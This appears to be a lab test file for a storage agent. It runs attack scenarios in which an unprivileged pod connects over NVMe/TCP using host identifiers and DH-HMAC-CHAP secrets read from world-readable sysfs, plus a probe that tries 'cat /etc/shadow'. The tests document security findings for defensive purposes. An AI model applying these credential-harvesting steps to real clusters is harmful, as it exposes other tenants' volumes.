"""Attack tests: a hostile pod speaks NVMe/TCP from user space (tests/lab/nvme_tcp.py).

The attacker stands in for a tenant pod: it runs as `nobody` (uid 65534, no capabilities, no
new privileges) in its own network namespace `zvpod` (10.43.0.2), routed through the worker
netns to the storage target 10.42.0.1:4420, the way a pod's traffic leaves a worker node. It
can read what a pod can read of the host: sysfs (`/sys/class/nvme/*`), nothing root-only.

Scenarios (issue 12, step 1):
  a. a weakened target (allow_any_host=1): the tool reads the test's pattern, so the tool works;
  b. a random host NQN against a published volume: Connect refused (Connect Invalid Host);
  c. the worker's host NQN, borrowed from sysfs, DH-HMAC-CHAP off: asserts what happens today
     (a FINDING test: it documents current behaviour, it is not the desired behaviour);
  d. the same with the agent's `--dhchap` and `--dhchap-bidirectional`: refused without the
     secret (and with a wrong one); and a FINDING test: what sysfs shows an unprivileged reader
     of `dhchap_secret`/`dhchap_ctrl_secret`, and what a pod does with it.

Run with `-s` to see the observed outcomes (`ATTACK ...` lines).
"""

from __future__ import annotations

import contextlib
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest
from test_agent_lab import CONFIGFS, Env, MiB, host_nqn, uniq, wait_ready  # type: ignore[import-not-found]

from agent.dhchap import generate_secret

pytestmark = pytest.mark.lab

TOOL_SRC = Path(__file__).with_name("nvme_tcp.py")
GUEST_DIR = "/run/zvolt-attack"
TOOL = f"{GUEST_DIR}/nvme_tcp.py"
POD_NS = "zvpod"
POD_DEV, NODE_DEV = "veth-pod", "veth-podw"
POD_IP, POD_GW, POD_NET = "10.43.0.2", "10.43.0.1", "10.43.0.0/24"
WORKER_IP = "10.42.0.2"
PORT = "4420"
NOBODY = 65534
# A pod's process: another uid, no supplementary groups, no capabilities, no way to gain any.
UNPRIVILEGED = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all",
                "--bounding-set=-all", "--no-new-privs", "--"]
BLOCK = 4096
T = 120


def report(scenario: str, outcome: object) -> None:
    print(f"\nATTACK {scenario}: {outcome}", flush=True)


def pattern(tag: str) -> bytes:
    """4 KiB nobody else wrote: a fresh marker repeated (zvols start zero-filled)."""
    unit = f"zvolt-attack-{tag}-{uuid.uuid4().hex}|".encode()
    return (unit * (BLOCK // len(unit) + 1))[:BLOCK]


@dataclass
class Attacker:
    lab: Any

    def _run(self, *args: str) -> dict[str, Any]:
        argv = [*UNPRIVILEGED, self.lab.python, TOOL, *args]
        proc = self.lab.run(argv, netns=POD_NS, check=False, timeout=240)
        if proc.returncode not in (0, 2) or not proc.stdout.strip():
            raise AssertionError(f"attack tool failed ({proc.returncode}): {proc.stdout}\n{proc.stderr}")
        out: dict[str, Any] = json.loads(proc.stdout.strip().splitlines()[-1])
        assert (out["uid"], out["euid"]) == (NOBODY, NOBODY), out
        return out

    def read(self, subnqn: str, hostnqn: str, hostid: str | None = None, *, traddr: str = "10.42.0.1",
             trsvcid: str = PORT, ignore_authreq: bool = False, secret: str | None = None) -> dict[str, Any]:
        args = ["read", "--traddr", traddr, "--trsvcid", trsvcid, "--subnqn", subnqn, "--hostnqn", hostnqn,
                "--length", str(BLOCK)]
        if hostid:
            args += ["--hostid", hostid]
        if ignore_authreq:
            args.append("--ignore-authreq")
        if secret:
            args += ["--dhchap-secret", secret]  # argv of a process in the pod's own pid view
        return self._run(*args)

    def discover(self, hostnqn: str) -> dict[str, Any]:
        return self._run("discover", "--traddr", "10.42.0.1", "--trsvcid", PORT, "--hostnqn", hostnqn)

    def sysfs(self) -> list[dict[str, Any]]:
        return list(self._run("sysfs")["controllers"])

    def sysfs_for(self, subnqn: str) -> dict[str, Any]:
        """The kernel initiator's controller for `subnqn`, as the pod sees it in sysfs."""
        for ctrl in self.sysfs():
            if ctrl["subsysnqn"].get("value") == subnqn:
                return ctrl
        raise AssertionError(f"no controller for {subnqn} visible in /sys/class/nvme")


def pod_network(lab: Any, up: bool) -> None:
    """A pod netns behind the worker: veth to the worker netns, which forwards to the storage net."""
    sh = lab.run
    if not up:
        sh(["ip", "netns", "del", POD_NS], check=False, timeout=30)
        sh(["ip", "-n", "storage", "route", "del", POD_NET], check=False, timeout=30)
        sh(["sysctl", "-q", "-w", "net.ipv4.ip_forward=0"], netns="worker", check=False, timeout=30)
        return
    pod_network(lab, False)
    sh(["ip", "netns", "add", POD_NS])
    sh(["ip", "link", "add", POD_DEV, "netns", POD_NS, "type", "veth", "peer", "name", NODE_DEV, "netns", "worker"])
    sh(["ip", "-n", POD_NS, "addr", "add", f"{POD_IP}/24", "dev", POD_DEV])
    sh(["ip", "-n", "worker", "addr", "add", f"{POD_GW}/24", "dev", NODE_DEV])
    for ns, dev in ((POD_NS, POD_DEV), (POD_NS, "lo"), ("worker", NODE_DEV)):
        sh(["ip", "-n", ns, "link", "set", dev, "up"])
    sh(["ip", "-n", POD_NS, "route", "add", "default", "via", POD_GW])
    sh(["sysctl", "-q", "-w", "net.ipv4.ip_forward=1"], netns="worker")
    sh(["ip", "-n", "storage", "route", "add", POD_NET, "via", WORKER_IP])


@pytest.fixture(scope="module")
def env(lab: Any) -> Iterator[Env]:
    e = Env(lab)
    e.restart()
    wait_ready(e.stub)
    yield e
    e.restart()  # standard flags (no auth) for whoever comes next
    wait_ready(e.stub)
    e.channel.close()


@pytest.fixture(scope="module")
def attacker(lab: Any) -> Iterator[Attacker]:
    lab.run(["install", "-d", "-m", "0755", GUEST_DIR])
    lab.put(TOOL_SRC, TOOL, mode=0o644)
    pod_network(lab, True)
    try:
        a = Attacker(lab)
        # The pod really is unprivileged and routed: its own address, no root-only file readable.
        probe = lab.run([*UNPRIVILEGED, "sh", "-c", "ip -4 -o addr show dev veth-pod; cat /etc/shadow"],
                        netns=POD_NS, check=False, timeout=30)
        assert POD_IP in probe.stdout and "Permission denied" in probe.stderr, probe
        yield a
    finally:
        pod_network(lab, False)
        lab.run(["rm", "-rf", GUEST_DIR], check=False, timeout=30)


# -- helpers on the legitimate side (root: the target's configfs, the worker's kernel initiator) --


def kernel_connect(env: Env, nqn: str, host: str, hostid: str, *auth: str) -> None:
    argv = ["nvme", "connect", "-t", "tcp", "-a", "10.42.0.1", "-s", PORT, "-n", nqn, "--hostnqn", host,
            "--hostid", hostid, "--reconnect-delay", "1", "--ctrl-loss-tmo", "30", *auth]
    proc = env.lab.run(argv, netns="worker", check=False, timeout=T)
    assert proc.returncode == 0, f"kernel initiator could not connect: {proc.stderr}"


def write_block0(env: Env, dev: str, data: bytes, netns: str | None = "worker") -> None:
    code = f"""
import mmap, os
fd = os.open({dev!r}, os.O_RDWR | os.O_DIRECT)
buf = mmap.mmap(-1, {len(data)})
buf.write(bytes.fromhex({data.hex()!r}))
assert os.pwritev(fd, [buf], 0) == {len(data)}
os.fsync(fd)
os.close(fd)
"""
    env.lab.py(code, netns=netns, timeout=T)  # type: ignore[attr-defined]


def cat(env: Env, path: str) -> str:
    return str(env.lab.run(["cat", path]).stdout.strip())  # type: ignore[attr-defined]


def published(env: Env, tag: str, host: str) -> tuple[Any, Any]:
    vol = env.create(uniq(tag), 64 * MiB)
    return vol, env.publish(vol.id, host)


def cleanup(env: Env, vol: Any, nqn: str, host: str) -> None:
    env.disconnect(nqn)
    with contextlib.suppress(grpc.RpcError):
        env.unpublish(vol.id, host)
    env.delete(vol.id)
    assert nqn not in env.subsystems() and host not in env.hosts()


def refused_without_data(res: dict[str, Any]) -> None:
    assert res["ok"] is False and "data" not in res, res


# -- scenarios ------------------------------------------------------------------------------------


def test_weakened_target_allow_any_host_is_read_by_the_attack_tool(env: Env, attacker: Attacker) -> None:
    """(a) The control: with allow_any_host=1 a stranger reads block 0, so the tool is not broken."""
    host, stranger = host_nqn(), host_nqn()
    vol, pub = published(env, "weak", host)
    sub = f"{CONFIGFS}/subsystems/{pub.nqn}"
    data = pattern("weak")
    try:
        write_block0(env, cat(env, f"{sub}/namespaces/1/device_path"), data, netns=None)  # the zvol itself
        # Tamper as in test_security_lab: the kernel takes allow_any_host=1 once allowed_hosts is empty.
        env.lab.run(["rm", f"{sub}/allowed_hosts/{host}"])  # type: ignore[attr-defined]
        env.lab.py(f"open({sub + '/attr_allow_any_host'!r}, 'w').write('1')")  # type: ignore[attr-defined]
        res = attacker.read(pub.nqn, stranger)
        report("a weakened target", {k: res.get(k) for k in ("ok", "cntlid", "namespace", "log", "error")})
        assert res["ok"] is True, res
        assert bytes.fromhex(res["data"]) == data
        ns = res["namespace"]
        assert ns["block_size"] in (512, 4096) and ns["size_blocks"] * ns["block_size"] == 64 * MiB
    finally:
        env.lab.py(f"open({sub + '/attr_allow_any_host'!r}, 'w').write('0')")  # type: ignore[attr-defined]
        env.lab.run(["ln", "-sfn", f"{CONFIGFS}/hosts/{host}", f"{sub}/allowed_hosts/{host}"],  # type: ignore
                    check=False)
        cleanup(env, vol, pub.nqn, host)


def test_random_host_nqn_is_refused_at_connect(env: Env, attacker: Attacker) -> None:
    """(b) A host NQN the volume is not published to: Connect Invalid Host, no data."""
    host, stranger = host_nqn(), host_nqn()
    vol, pub = published(env, "stranger", host)
    try:
        res = attacker.read(pub.nqn, stranger)
        report("b random host NQN", {k: res.get(k) for k in ("ok", "kind", "step", "status", "error")})
        refused_without_data(res)
        assert res["kind"] == "ConnectRefused" and res["step"] == "Connect qid 0"
        assert (res["status"]["sct"], res["status"]["sc"], res["status"]["dnr"]) == (1, 0x84, True)
        # The discovery controller answers anyone, but lists only what that host may reach.
        disc = attacker.discover(stranger)
        report("b discovery as a stranger", {k: disc.get(k) for k in ("ok", "numrec", "entries", "error")})
        assert disc["ok"] is True and pub.nqn not in [e["subnqn"] for e in disc["entries"]]
    finally:
        cleanup(env, vol, pub.nqn, host)


def test_borrowed_hostnqn_without_dhchap_reads_data_FINDING(env: Env, attacker: Attacker) -> None:
    """(c) FINDING, current behaviour (agent default, no DH-HMAC-CHAP): a pod that reads the
    worker's host NQN (and host ID) from sysfs connects with it and reads the volume.

    This asserts what the target does today so that a change in it is noticed; it is not the
    behaviour zvolt wants (SECURITY.md: a host NQN is an identifier, not a secret)."""
    host, hostid = host_nqn(), str(uuid.uuid4())
    vol, pub = published(env, "borrow", host)
    data = pattern("borrow")
    try:
        kernel_connect(env, pub.nqn, host, hostid)
        write_block0(env, env.device_for(pub.nqn), data)
        seen = attacker.sysfs_for(pub.nqn)
        stolen_host, stolen_id = seen["hostnqn"].get("value"), seen["hostid"].get("value")
        addr = {k: v for k, v in (p.split("=", 1) for p in seen["address"]["value"].split(",") if "=" in p)}
        report("c sysfs as nobody", {a: seen[a] for a in ("subsysnqn", "hostnqn", "hostid", "address")})
        assert (stolen_host, stolen_id) == (host, hostid)
        disc = attacker.discover(stolen_host)
        report("c discovery with the borrowed NQN", [e["subnqn"] for e in disc.get("entries", [])])
        res = attacker.read(pub.nqn, stolen_host, stolen_id, traddr=addr["traddr"], trsvcid=addr["trsvcid"])
        report("c borrowed host NQN, no DH-HMAC-CHAP", {k: res.get(k) for k in ("ok", "cntlid", "log", "error")})
        assert res["ok"] is True, res
        assert bytes.fromhex(res["data"]) == data, "the pod read the worker's volume"
        assert pub.nqn in [e["subnqn"] for e in disc["entries"]]
    finally:
        cleanup(env, vol, pub.nqn, host)


@dataclass
class AuthVolume:
    mode: str
    pub: Any
    host: str
    hostid: str
    data: bytes


@pytest.fixture(scope="module", params=["--dhchap", "--dhchap-bidirectional"])
def dhchap_volume(request: pytest.FixtureRequest, env: Env) -> Iterator[AuthVolume]:
    """The agent with DH-HMAC-CHAP on; a volume published to a worker host NQN, connected by the
    worker's kernel initiator with the secrets from PublishVolume, block 0 holding a pattern."""
    mode = str(request.param)
    env.restart(mode)
    wait_ready(env.stub)
    host, hostid = host_nqn(), str(uuid.uuid4())
    vol, pub = published(env, "dhchap", host)
    try:
        auth = ["--dhchap-secret", pub.dhchap_secret]
        if mode == "--dhchap-bidirectional":
            assert pub.dhchap_ctrl_secret
            auth += ["--dhchap-ctrl-secret", pub.dhchap_ctrl_secret]
        kernel_connect(env, pub.nqn, host, hostid, *auth)
        data = pattern("dhchap")
        write_block0(env, env.device_for(pub.nqn), data)
        yield AuthVolume(mode, pub, host, hostid, data)
    finally:
        cleanup(env, vol, pub.nqn, host)
        env.restart()
        wait_ready(env.stub)


def test_borrowed_hostnqn_with_dhchap_is_refused(attacker: Attacker, dhchap_volume: AuthVolume) -> None:
    """(d) DH-HMAC-CHAP on: the borrowed host NQN (and host ID) without the secret gets no data."""
    v = dhchap_volume
    res = attacker.read(v.pub.nqn, v.host, v.hostid)
    report(f"d {v.mode} borrowed NQN, no secret", {k: res.get(k) for k in ("ok", "kind", "step", "error")})
    refused_without_data(res)
    assert res["kind"] == "AuthenticationRequired" and res["step"] == "Connect qid 0"

    # Ignore the controller's demand for authentication and carry on: the first command that
    # needs an authenticated queue is refused (Property Get/Set of CC/CSTS still answer).
    pushy = attacker.read(v.pub.nqn, v.host, v.hostid, ignore_authreq=True)
    report(f"d {v.mode} borrowed NQN, authentication skipped",
           {k: pushy.get(k) for k in ("ok", "kind", "step", "status", "error")})
    refused_without_data(pushy)
    assert pushy["step"] == "Identify namespace 1"
    assert (pushy["status"]["sct"], pushy["status"]["sc"], pushy["status"]["dnr"]) == (1, 0x91, True)

    # A secret of the right form but not the host's: the target checks the response for real.
    wrong = attacker.read(v.pub.nqn, v.host, v.hostid, secret=generate_secret())
    report(f"d {v.mode} borrowed NQN, wrong secret", {k: wrong.get(k) for k in ("ok", "kind", "step", "error")})
    refused_without_data(wrong)
    assert wrong["kind"] == "AuthenticationFailed" and "authentication failed (reason 0x1, explanation 0x1)" in (
        wrong["error"])


def test_dhchap_secret_readable_in_sysfs_lets_a_pod_read_data_FINDING(attacker: Attacker,
                                                                      dhchap_volume: AuthVolume) -> None:
    """(d) FINDING, current behaviour on the lab kernel (6.12): the kernel initiator's
    /sys/class/nvme/nvmeX/dhchap_secret (and dhchap_ctrl_secret) are mode 0644 and show the
    secret in clear to any user. A pod that reads host sysfs therefore holds the worker's
    DH-HMAC-CHAP secret and passes authentication; bidirectional mode does not help, since
    asking the controller to authenticate itself is the host's choice.

    This asserts what happens today so that a change is noticed; it is not what zvolt wants."""
    v = dhchap_volume
    seen = attacker.sysfs_for(v.pub.nqn)
    report(f"d {v.mode} sysfs as nobody",
           {a: seen[a] for a in ("hostnqn", "hostid", "dhchap_secret", "dhchap_ctrl_secret")})
    assert seen["dhchap_secret"] == {"mode": "0o644", "value": v.pub.dhchap_secret}
    ctrl_secret = v.pub.dhchap_ctrl_secret if v.mode == "--dhchap-bidirectional" else "none"
    assert seen["dhchap_ctrl_secret"] == {"mode": "0o644", "value": ctrl_secret}

    res = attacker.read(v.pub.nqn, seen["hostnqn"]["value"], seen["hostid"]["value"],
                        secret=seen["dhchap_secret"]["value"])
    report(f"d {v.mode} borrowed NQN + secret from sysfs", {k: res.get(k) for k in ("ok", "cntlid", "log", "error")})
    assert res["ok"] is True, res
    assert bytes.fromhex(res["data"]) == v.data, "the pod read the worker's volume through DH-HMAC-CHAP"
